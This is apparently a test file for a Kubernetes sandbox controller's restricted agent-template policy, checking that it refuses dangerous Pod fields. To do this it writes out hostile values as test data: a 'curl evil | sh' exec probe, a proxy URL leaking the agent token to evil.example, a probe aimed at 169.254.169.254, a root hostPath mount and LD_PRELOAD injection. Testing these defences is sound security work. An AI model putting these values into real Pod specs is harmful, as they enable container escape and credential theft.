import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { PermissionDeniedError, ValidationError } from "@fast-sandbox/api";
import {
  AgentTemplateNotAllowedError,
  DEFAULT_AGENT_TEMPLATE_POLICY,
  RESTRICTED_TEMPLATE_ALLOWS,
  checkAgentTemplatePolicy,
  type AgentTemplatePolicy,
} from "./agent-template-policy.js";

const MIRROR = "mirror.example/fast-sandbox/agent:0.1.0";
const RESTRICTED: AgentTemplatePolicy = { mode: "restricted", allowedImages: [MIRROR] };
const UNRESTRICTED: AgentTemplatePolicy = { mode: "unrestricted" };

/** A template whose agent container is `agent`. */
function withAgent(agent: Record<string, unknown>): Record<string, unknown> {
  return { spec: { containers: [{ name: "agent", ...agent }] } };
}

/** Asserts the restricted policy refuses `template` at `field`, with a message that names it, says what is allowed and how to allow it. */
function assertRefused(template: unknown, field: string, options: { detail?: string; allows?: RegExp; policy?: AgentTemplatePolicy } = {}): void {
  assert.throws(
    () => checkAgentTemplatePolicy(template, options.policy ?? RESTRICTED),
    (error: unknown) => {
      assert.ok(error instanceof AgentTemplateNotAllowedError, `an AgentTemplateNotAllowedError, not ${String(error)}`);
      assert.ok(error instanceof PermissionDeniedError, "a PermissionDeniedError: the pool controller tells it from a template no Pod can be built from");
      assert.equal(error.field, field);
      assert.equal(error.code, "permission_denied");
      const subject = options.detail === undefined ? field : `${field} ${options.detail}`;
      assert.ok(
        error.message.startsWith(`${subject} is not allowed by the deployment's agent template policy (restricted): `),
        `names the field: ${error.message}`,
      );
      assert.match(error.message, options.allows ?? /a pool may set metadata\.labels .* and an image FSB_AGENT_TEMPLATE_IMAGES lists/);
      assert.match(error.message, /set FSB_AGENT_TEMPLATE_POLICY=unrestricted on the controller to allow/);
      return true;
    },
  );
}

/** Asserts the restricted policy lets `template` through. */
function assertAllowed(template: unknown, policy: AgentTemplatePolicy = RESTRICTED): void {
  assert.doesNotThrow(() => checkAgentTemplatePolicy(template, policy));
}

describe("checkAgentTemplatePolicy (restricted)", () => {
  it("is the default, with no image allowed", () => {
    assert.deepEqual(DEFAULT_AGENT_TEMPLATE_POLICY, { mode: "restricted", allowedImages: [] });
  });

  it("says the whole of what a pool may set, for the Pod's fields", () => {
    assert.throws(
      () => checkAgentTemplatePolicy({ spec: { hostPID: true } }, RESTRICTED),
      (error: unknown) =>
        error instanceof Error &&
        error.message ===
          `spec.agentTemplate.spec.hostPID is not allowed by the deployment's agent template policy (restricted): ${RESTRICTED_TEMPLATE_ALLOWS}; ` +
            "set FSB_AGENT_TEMPLATE_POLICY=unrestricted on the controller to allow it",
    );
    assert.equal(
      RESTRICTED_TEMPLATE_ALLOWS,
      "a pool may set metadata.labels and metadata.annotations (not fast-sandbox.io/ or sandbox.fast.io/ ones), spec.nodeSelector, affinity, tolerations, " +
        "topologySpreadConstraints, priorityClassName and imagePullSecrets, and of the container named agent only resources, imagePullPolicy, " +
        "probes using httpGet, tcpSocket or grpc without host, env HTTP_PROXY, HTTPS_PROXY and NO_PROXY (upper or lower case) with a plain value, " +
        "and an image FSB_AGENT_TEMPLATE_IMAGES lists",
    );
  });

  it("allows no template, an empty one, and everything it lists at once", () => {
    assertAllowed(undefined);
    assertAllowed(null);
    assertAllowed({});
    assertAllowed({ metadata: {}, spec: {} });
    assertAllowed({
      metadata: { labels: { team: "data", "app.kubernetes.io/part-of": "notebooks" }, annotations: { "example.com/owner": "data-team" } },
      spec: {
        nodeSelector: { "node.kubernetes.io/instance-type": "m5.large" },
        affinity: { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [] } } },
        tolerations: [{ key: "sandboxes", operator: "Exists", effect: "NoSchedule" }],
        topologySpreadConstraints: [{ maxSkew: 1, topologyKey: "kubernetes.io/hostname", whenUnsatisfiable: "ScheduleAnyway" }],
        priorityClassName: "sandboxes",
        imagePullSecrets: [{ name: "mirror-credentials" }],
        containers: [
          {
            name: "agent",
            image: MIRROR,
            imagePullPolicy: "IfNotPresent",
            resources: { requests: { cpu: "1" }, limits: { cpu: "4", memory: "8Gi" } },
            readinessProbe: { httpGet: { path: "/readyz", port: "agent", scheme: "HTTP", httpHeaders: [{ name: "X", value: "y" }] }, periodSeconds: 2 },
            livenessProbe: { tcpSocket: { port: 7071 }, initialDelaySeconds: 5, timeoutSeconds: 2, failureThreshold: 30, successThreshold: 1 },
            startupProbe: { grpc: { port: 7071, service: "health" }, terminationGracePeriodSeconds: 10 },
            env: [
              { name: "HTTP_PROXY", value: "http://proxy.example:3128" },
              { name: "HTTPS_PROXY", value: "http://proxy.example:3128" },
              { name: "NO_PROXY", value: "10.0.0.0/8,.cluster.local" },
              { name: "http_proxy", value: "http://proxy.example:3128" },
              { name: "https_proxy", value: "http://proxy.example:3128" },
              { name: "no_proxy", value: "" },
            ],
          },
        ],
      },
    });
  });

  it("allows the livenessProbe of the manual-policy-marks-lost case (httpGet)", () => {
    assertAllowed(withAgent({ livenessProbe: { httpGet: { path: "/healthz", port: "agent" }, periodSeconds: 10, failureThreshold: 30 } }));
  });

  it("takes an allowed field set to null for unset", () => {
    assertAllowed({
      metadata: { labels: null, annotations: null },
      spec: { nodeSelector: null, containers: [{ name: "agent", image: null, resources: null, env: null, readinessProbe: null }] },
    });
    assertAllowed({ metadata: null, spec: null });
    assertAllowed({ spec: { containers: null } });
    assertAllowed(withAgent({ livenessProbe: { httpGet: null, tcpSocket: { port: 1 } } }));
    assertAllowed(withAgent({ env: [{ name: "HTTP_PROXY", value: null }, { name: "NO_PROXY" }] }));
  });

  describe("refuses, naming the field", () => {
    const podFields: [string, unknown][] = [
      ["hostPID", true],
      ["hostNetwork", true],
      ["hostIPC", true],
      ["hostUsers", false],
      ["shareProcessNamespace", true],
      ["serviceAccountName", "cluster-admin"],
      ["serviceAccount", "cluster-admin"],
      ["automountServiceAccountToken", true],
      ["nodeName", "control-plane-0"],
      ["securityContext", { runAsUser: 0 }],
      ["runtimeClassName", "runc"],
      ["schedulerName", "my-scheduler"],
      ["hostAliases", [{ ip: "10.0.0.1", hostnames: ["registry"] }]],
      ["dnsConfig", { nameservers: ["10.0.0.1"] }],
      ["restartPolicy", "Never"],
      ["resourceClaims", [{ name: "gpu" }]],
    ];
    for (const [key, value] of podFields) {
      it(`spec.${key}`, () => assertRefused({ spec: { [key]: value } }, `spec.agentTemplate.spec.${key}`));
    }

    it("spec.volumes (a hostPath of the node's root)", () => {
      assertRefused({ spec: { volumes: [{ name: "root", hostPath: { path: "/" } }] } }, "spec.agentTemplate.spec.volumes");
    });

    it("spec.initContainers", () => {
      assertRefused({ spec: { initContainers: [{ name: "install", image: "busybox", command: ["sh"] }] } }, "spec.agentTemplate.spec.initContainers");
    });

    it("spec.ephemeralContainers", () => {
      assertRefused({ spec: { ephemeralContainers: [{ name: "debug", image: "busybox" }] } }, "spec.agentTemplate.spec.ephemeralContainers");
    });

    it("a field set to null that the merge would put over the deployment's value (automountServiceAccountToken: null brings the token back)", () => {
      assertRefused({ spec: { automountServiceAccountToken: null } }, "spec.agentTemplate.spec.automountServiceAccountToken");
    });

    it("an empty list it does not allow (volumes: [])", () => {
      assertRefused({ spec: { volumes: [] } }, "spec.agentTemplate.spec.volumes");
    });

    it("a field of the template outside metadata and spec", () => {
      assertRefused({ kind: "Pod" }, "spec.agentTemplate.kind");
    });

    for (const key of ["name", "namespace", "finalizers", "ownerReferences", "generateName"]) {
      it(`metadata.${key}`, () =>
        assertRefused({ metadata: { [key]: key === "finalizers" ? ["example.com/hold"] : "x" } }, `spec.agentTemplate.metadata.${key}`));
    }

    const reserved = /the fast-sandbox\.io\/ and sandbox\.fast\.io\/ labels and annotations are the controller's/;
    for (const key of [
      "fast-sandbox.io/pool",
      "fast-sandbox.io/template-hash",
      "fast-sandbox.io/agent-token",
      "sandbox.fast.io/anything",
      "x.fast-sandbox.io/y",
    ]) {
      it(`the controller's label ${key}`, () =>
        assertRefused({ metadata: { labels: { team: "a", [key]: "forged" } } }, `spec.agentTemplate.metadata.labels[${JSON.stringify(key)}]`, {
          allows: reserved,
        }));
    }

    it("the controller's annotations too", () => {
      assertRefused({ metadata: { annotations: { "FAST-SANDBOX.IO/pool": "x" } } }, 'spec.agentTemplate.metadata.annotations["FAST-SANDBOX.IO/pool"]', {
        allows: reserved,
      });
    });

    it("allows a key that only looks like the controller's domain", () => {
      assertAllowed({ metadata: { labels: { "notfast-sandbox.io/x": "a", "fast-sandbox.io": "no slash: a plain name" } } });
    });

    it("a second container (containers[1])", () => {
      assertRefused({ spec: { containers: [{ name: "agent" }, { name: "sidecar", image: "busybox" }] } }, "spec.agentTemplate.spec.containers[1]", {
        detail: '(name "sidecar")',
      });
    });

    it("a container without a name (the first one is the agent's when the deployment's template has none)", () => {
      assertRefused({ spec: { containers: [{ command: ["sh"] }] } }, "spec.agentTemplate.spec.containers[0]", { detail: "(no name)" });
    });

    it("a second entry named agent with what the first may not set", () => {
      assertRefused({ spec: { containers: [{ name: "agent" }, { name: "agent", command: ["sh"] }] } }, "spec.agentTemplate.spec.containers[1].command");
    });

    const agentFields: [string, unknown][] = [
      ["command", ["sh", "-c", "id"]],
      ["args", ["--evil"]],
      ["securityContext", { privileged: true }],
      ["volumeMounts", [{ name: "containerd-root", mountPath: "/host" }]],
      ["volumeDevices", [{ name: "disk", devicePath: "/dev/xvda" }]],
      ["envFrom", [{ secretRef: { name: "secrets" } }]],
      ["ports", [{ containerPort: 22, hostPort: 22 }]],
      ["lifecycle", { postStart: { exec: { command: ["sh"] } } }],
      ["workingDir", "/"],
      ["stdin", true],
      ["tty", true],
      ["terminationMessagePath", "/etc/shadow"],
    ];
    for (const [key, value] of agentFields) {
      it(`the agent container's ${key}`, () => assertRefused(withAgent({ [key]: value }), `spec.agentTemplate.spec.containers[0].${key}`));
    }

    const probe = /a probe may use httpGet, tcpSocket or grpc \(without host\) and set its timing/;
    for (const kind of ["readinessProbe", "livenessProbe", "startupProbe"]) {
      it(`an exec ${kind} (run as root in the privileged agent container)`, () =>
        assertRefused(withAgent({ [kind]: { exec: { command: ["sh", "-c", "curl evil | sh"] } } }), `spec.agentTemplate.spec.containers[0].${kind}.exec`, {
          allows: probe,
        }));
    }

    it("a probe's httpGet.host or tcpSocket.host (the kubelet would call another address)", () => {
      assertRefused(
        withAgent({ livenessProbe: { httpGet: { host: "169.254.169.254", path: "/", port: 80 } } }),
        "spec.agentTemplate.spec.containers[0].livenessProbe.httpGet.host",
        {
          allows: probe,
        },
      );
      assertRefused(
        withAgent({ readinessProbe: { tcpSocket: { host: "10.0.0.1", port: 22 } } }),
        "spec.agentTemplate.spec.containers[0].readinessProbe.tcpSocket.host",
        {
          allows: probe,
        },
      );
    });

    it("a probe field it does not know", () => {
      assertRefused(withAgent({ startupProbe: { sleep: { seconds: 1 } } }), "spec.agentTemplate.spec.containers[0].startupProbe.sleep", { allows: probe });
    });

    const env = /the agent container's env may set only HTTP_PROXY, HTTPS_PROXY and NO_PROXY \(upper or lower case\), each with a plain value/;
    for (const name of ["NODE_OPTIONS", "FSB_AGENT_LISTEN", "FSB_CONTAINERD_SOCKET", "LD_PRELOAD", "Http_Proxy"]) {
      it(`env ${name}`, () =>
        assertRefused(
          withAgent({
            env: [
              { name: "HTTP_PROXY", value: "http://p:3128" },
              { name, value: "x" },
            ],
          }),
          "spec.agentTemplate.spec.containers[0].env[1]",
          {
            detail: `(${name})`,
            allows: env,
          },
        ));
    }

    it("an env entry without a name", () => {
      assertRefused(withAgent({ env: [{ value: "x" }] }), "spec.agentTemplate.spec.containers[0].env[0]", { detail: "(no name)", allows: env });
    });

    it("a proxy variable's valueFrom (it would read a Secret of the namespace)", () => {
      assertRefused(
        withAgent({ env: [{ name: "HTTPS_PROXY", valueFrom: { secretKeyRef: { name: "other", key: "token" } } }] }),
        "spec.agentTemplate.spec.containers[0].env[0].valueFrom",
        { allows: env },
      );
    });

    it("a proxy variable whose value refers to another variable (the agent's token)", () => {
      assertRefused(
        withAgent({ env: [{ name: "HTTP_PROXY", value: "http://$(FSB_AGENT_TOKEN)@evil.example" }] }),
        "spec.agentTemplate.spec.containers[0].env[0].value",
        {
          allows: /a \$\(VAR\) reference would copy another variable into it/,
        },
      );
    });

    const images = /the agent container may name only an image the controller's FSB_AGENT_TEMPLATE_IMAGES lists exactly/;
    it("an image the deployment does not list, saying which it lists and how to allow it", () => {
      assert.throws(
        () => checkAgentTemplatePolicy(withAgent({ image: "evil.example/agent:latest" }), RESTRICTED),
        (error: unknown) =>
          error instanceof AgentTemplateNotAllowedError &&
          error.field === "spec.agentTemplate.spec.containers[0].image" &&
          error.message ===
            `spec.agentTemplate.spec.containers[0].image "evil.example/agent:latest" is not allowed by the deployment's agent template policy (restricted): ` +
              `the agent container may name only an image the controller's FSB_AGENT_TEMPLATE_IMAGES lists exactly (it lists ${MIRROR}); ` +
              "list it there, or set FSB_AGENT_TEMPLATE_POLICY=unrestricted on the controller to allow any image",
      );
    });

    it("any image when none is listed (the default)", () => {
      assertRefused(withAgent({ image: MIRROR }), "spec.agentTemplate.spec.containers[0].image", {
        detail: JSON.stringify(MIRROR),
        allows: /lists exactly \(it lists none\)/,
        policy: DEFAULT_AGENT_TEMPLATE_POLICY,
      });
    });

    it("an image written otherwise than listed (matched exactly)", () => {
      const tagless = "mirror.example/fast-sandbox/agent";
      assertRefused(withAgent({ image: tagless }), "spec.agentTemplate.spec.containers[0].image", { detail: JSON.stringify(tagless), allows: images });
    });

    it("an image of another container, even a listed one", () => {
      assertRefused({ spec: { containers: [{ name: "agent" }, { name: "helper", image: MIRROR }] } }, "spec.agentTemplate.spec.containers[1]", {
        detail: '(name "helper")',
      });
    });
  });

  describe("an allowed field of the wrong shape is a ValidationError (no Pod is built from it), not a refusal", () => {
    const cases: [string, unknown, string][] = [
      ["a template that is not a map", "hostPID: true", "spec.agentTemplate"],
      ["containers as a string", { spec: { containers: "agent" } }, "spec.agentTemplate.spec.containers"],
      ["a container that is not a map", { spec: { containers: ["agent"] } }, "spec.agentTemplate.spec.containers[0]"],
      ["env written as a map", withAgent({ env: { HTTP_PROXY: "x" } }), "spec.agentTemplate.spec.containers[0].env"],
      ["labels as a list", { metadata: { labels: ["a"] } }, "spec.agentTemplate.metadata.labels"],
      ["a probe that is not a map", withAgent({ livenessProbe: "http" }), "spec.agentTemplate.spec.containers[0].livenessProbe"],
      ["a proxy value that is not a string", withAgent({ env: [{ name: "NO_PROXY", value: 1 }] }), "spec.agentTemplate.spec.containers[0].env[0].value"],
    ];
    for (const [what, template, field] of cases) {
      it(what, () => {
        assert.throws(
          () => checkAgentTemplatePolicy(template, RESTRICTED),
          (error: unknown) => error instanceof ValidationError && error.field === field,
        );
      });
    }
  });
});

describe("checkAgentTemplatePolicy (unrestricted)", () => {
  it("takes the template as written: any field, container, image or env", () => {
    assertAllowed(
      {
        metadata: { labels: { "fast-sandbox.io/pool": "x" }, finalizers: ["a"] },
        spec: {
          hostPID: true,
          serviceAccountName: "admin",
          volumes: [{ name: "root", hostPath: { path: "/" } }],
          initContainers: [{ name: "i", image: "busybox" }],
          containers: [
            {
              name: "agent",
              image: "anything:latest",
              command: ["sh"],
              env: [{ name: "NODE_OPTIONS", value: "--require /x" }],
              livenessProbe: { exec: { command: ["id"] } },
            },
            { name: "sidecar", image: "busybox" },
          ],
        },
      },
      UNRESTRICTED,
    );
    assertAllowed("not even a map", UNRESTRICTED);
  });
});
